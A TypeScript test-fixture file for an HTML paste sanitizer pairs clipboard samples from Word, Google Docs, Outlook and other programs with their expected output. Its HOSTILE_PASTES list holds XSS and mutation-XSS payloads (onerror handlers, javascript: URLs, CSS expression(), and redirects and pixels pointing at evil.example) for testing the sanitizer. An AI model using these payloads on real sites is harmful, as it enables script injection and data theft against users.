/** Clipboard HTML in the forms that known programs produce, with the expected result. */
export interface PastedSample {
  readonly name: string
  readonly html: string
  /** Plain text of the result: words, lists and links. */
  readonly text: string
  readonly has: readonly string[]
}

const WORD_STYLE =
  '<style><!-- @font-face {font-family:Calibri;} p.MsoNormal {margin:0cm; font-size:11.0pt;} @list l0 {mso-list-id:1;} --></style>'

const wordItem = (level: number, mark: string, words: string): string =>
  `<p class=MsoListParagraphCxSpMiddle style='margin-left:36.0pt;text-indent:-18.0pt;mso-list:l0 level${level} lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>${mark}<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>${words}<o:p></o:p></p>`

export const PASTED: readonly PastedSample[] = [
  {
    name: 'Word',
    html: `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head><meta name=Generator content="Microsoft Word 15"><link rel=File-List href="file:///C:/clip_filelist.xml"><!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]-->${WORD_STYLE}</head><body lang=EN-GB><!--StartFragment--><h4 class=x>Plan</h4><p class=MsoNormal>Dear <b style='mso-bidi-font-weight:normal'><span style='color:#C00000'>Ann</span></b>,<o:p>&nbsp;</o:p></p>${wordItem(1, '·', 'first')}${wordItem(2, 'o', 'within')}${wordItem(1, '·', 'second')}<p class=MsoNormal><span style='mso-hide:all;display:none'>secret</span><a href="file:///C:/x.doc">a file</a> and <a href="https://example.com/">a page</a></p><!--EndFragment--></body></html>`,
    text: 'Plan\n\nDear Ann,\n\n- first\n  - within\n- second\n\na file and a page <https://example.com/>',
    has: ['<strong>Plan</strong>', '<b>Ann</b>', '<ul', '<li'],
  },
  {
    name: 'Word, numbered',
    html: `<body>${wordItem(1, '1.', 'one')}${wordItem(1, '2.', 'two')}</body>`,
    text: '1. one\n2. two',
    has: ['<ol'],
  },
  {
    name: 'Google Docs',
    html: '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr" style="line-height:1.38;margin-top:0pt;"><span style="font-size:11pt;font-family:Arial;color:#000000;font-weight:400;white-space:pre-wrap;">Plain </span><span style="font-weight:700;">bold</span><span style="font-style:italic;"> slanted</span></p><ul style="margin-top:0"><li dir="ltr" style="list-style-type:disc" aria-level="1"><p dir="ltr" role="presentation"><span>point</span></p></li></ul></b><br class="Apple-interchange-newline">',
    text: 'Plain bold slanted\n\n- point',
    has: ['<strong>bold</strong>', '<em> slanted</em>'],
  },
  {
    name: 'Outlook',
    html: '<div class="WordSection1"><p class="MsoNormal"><span style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif;mso-fareast-language:EN-US">See you <i>tomorrow</i>.<o:p></o:p></span></p><table class="MsoNormalTable" border="1" cellspacing="0" cellpadding="0" style="border-collapse:collapse"><tbody><tr><td width="208" valign="top" style="width:155.8pt;padding:0cm 5.4pt"><p class="MsoNormal">A</p></td><td><p>1</p></td></tr></tbody></table></div>',
    text: 'See you tomorrow.\n\nA\t1',
    has: ['<i>tomorrow</i>', '<td valign="top">'],
  },
  {
    name: 'LibreOffice',
    html: '<!DOCTYPE html><html><head><meta name="generator" content="LibreOffice 24.2 (Linux)"/><style type="text/css">p { line-height: 115%; background: transparent }</style></head><body lang="en-GB" text="#000000"><p style="margin-bottom: 0cm"><font face="Liberation Serif"><b>Report</b></font></p><ol><li><p>one</p></li><li><p>two</p></li></ol><p><s>old</s></p></body></html>',
    text: 'Report\n\n1. one\n2. two\n\n~old~',
    has: ['<b>Report</b>', '<ol', '<s>old</s>'],
  },
  {
    name: 'a web page',
    html: '<article class="post" data-id="7" onclick="go()"><nav hidden><a href="/home">Home</a></nav><h2 id="t" style="color:red">Title</h2><p>Words with <a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener" class="x">a link</a>, <a href="/here">a local one</a> and <code class="lang-js">code()</code>.</p><img src="https://example.com/p.png" srcset="https://example.com/2.png 2x" alt="A graph"><picture><source srcset="https://example.com/3.png"></picture><blockquote cite="https://example.com">Said</blockquote><pre class="hl"><span class="k">let</span> x\n  = 1</pre><button>Subscribe</button><form><input value="x"></form><script>go()</script></article>',
    text: 'Title\n\nWords with a link <https://example.com/a?b=1&c=2>, a local one and code().\n\n[A graph]\n\n> Said\n\nlet x\n  = 1\n\nx',
    has: ['<h2', '<code', '<blockquote', '<pre'],
  },
  {
    name: 'Apple Pages',
    html: '<html><head><meta http-equiv="Content-Style-Type" content="text/css"><meta name="Generator" content="Cocoa HTML Writer"><style type="text/css">p.p1 {margin: 0.0px 0.0px 12.0px 0.0px; font: 18.0px Helvetica} li.li2 {font: 12.0px Helvetica} span.s1 {font-kerning: none}</style></head><body><p class="p1"><span class="s1"><b>Minutes</b></span></p><ul class="ul1"><li class="li2"><span class="s1">one<span class="Apple-converted-space"> </span></span></li><li class="li2"><span class="s1"><i>two</i></span></li></ul></body></html>',
    text: 'Minutes\n\n- one\n- two',
    has: ['<b>Minutes</b>', '<i>two</i>', '<ul'],
  },
  {
    name: 'Apple Mail',
    html: '<meta charset="UTF-8"><div style="caret-color: rgb(0, 0, 0); color: rgb(0, 0, 0); font-family: Helvetica; font-size: 12px; text-decoration: none;">Hello <span style="font-weight: bold;">Ann</span>,</div><blockquote type="cite" class=""><div class="">On Monday it rained.</div></blockquote><br class="Apple-interchange-newline">',
    text: 'Hello Ann,\n\n> On Monday it rained.',
    has: ['<strong>Ann</strong>', '<blockquote'],
  },
  {
    name: 'a web page with a table and pictures',
    html: '<!--StartFragment--><table class="wikitable" border="1" style="float:right;width:40%"><caption>Towns</caption><thead><tr><th scope="col" style="background:#eee">Town</th><th>People</th></tr></thead><tbody><tr><td><a href="https://example.com/ulm" class="link">Ulm</a></td><td onclick="sort()">126</td></tr></tbody></table><figure><picture><source srcset="https://example.com/a.webp"><img src="https://example.com/a.jpg" srcset="https://example.com/b.jpg 2x" alt="A tower"></picture><figcaption>The tower</figcaption></figure><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="A dot"><!--EndFragment-->',
    text: 'Towns\n\nTown\tPeople\nUlm <https://example.com/ulm>\t126\n\n[A tower]\nThe tower\n[A dot]',
    has: ['<table', '<th', 'href="https://example.com/ulm"', '[A tower]', '[A dot]'],
  },
]

/** Hostile clipboard HTML. The word `kept` must survive in each. */
export const HOSTILE_PASTES: readonly string[] = [
  '<p>kept</p><script>alert(1)</script><img src=x onerror=alert(1)>',
  '<p>kept</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">lost',
  '<svg><style><img src=x onerror=alert(1)></style></svg><p>kept',
  '<p>kept</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>lost',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">kept</noscript><p>kept',
  '<p style="background:url(https://evil.example/a.png);position:fixed;inset:0;behavior:url(x)">kept</p>',
  '<style>@import url(https://evil.example/a.css);p{color:expression(alert(1))}</style><p>kept</p>',
  '<a href="javascript:alert(1)">kept</a><a href=" java&#10;script:alert(1)">x</a><a href="data:text/html,<script>1</script>">y</a><a href="vbscript:x">z</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>kept',
  '<iframe srcdoc="<script>1</script>"></iframe><object data="x"></object><embed src="x"><p>kept',
  '<p onclick="x()" onmouseover=x() contenteditable tabindex=0 autofocus id=a name=b class=c data-x=1>kept</p>',
  '<img src="https://evil.example/pixel" width=1 height=1><img src="file:///etc/passwd"><img src="cid:x y"><p>kept',
  '<template><img src=x onerror=alert(1)></template><p>kept</p>',
  '<details open ontoggle=alert(1)><summary>kept</summary></details>',
  '<p>kept<!--[if mso]><img src="https://evil.example/a.png"><![endif]--></p>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><p>kept',
  '<a href="https://ok.example" ping="https://evil.example" style="-webkit-user-modify:read-write">kept</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>"><a href="data:text/html;base64,PHNjcmlwdD4=">kept</a>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload=alert(1)><a xlink:href="javascript:alert(1)"><text>evil.example</text></a><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg><p>kept</p>',
  '<math href="javascript:alert(1)"><mi xlink:href="https://evil.example">x</mi></math><p>kept</p>',
  '<form action="https://evil.example"><div><form action="https://evil.example/2"><button formaction="javascript:alert(1)">alert</button><input name=a autofocus onfocus=alert(1)></form></div></form><p>kept</p>',
  '<p style="width:expression(alert(1));-moz-binding:url(https://evil.example/x.xml#a)">kept</p>',
  `${'<div style="position:fixed">'.repeat(400)}<p onclick=alert(1)>kept</p>${'</div>'.repeat(400)}`,
]
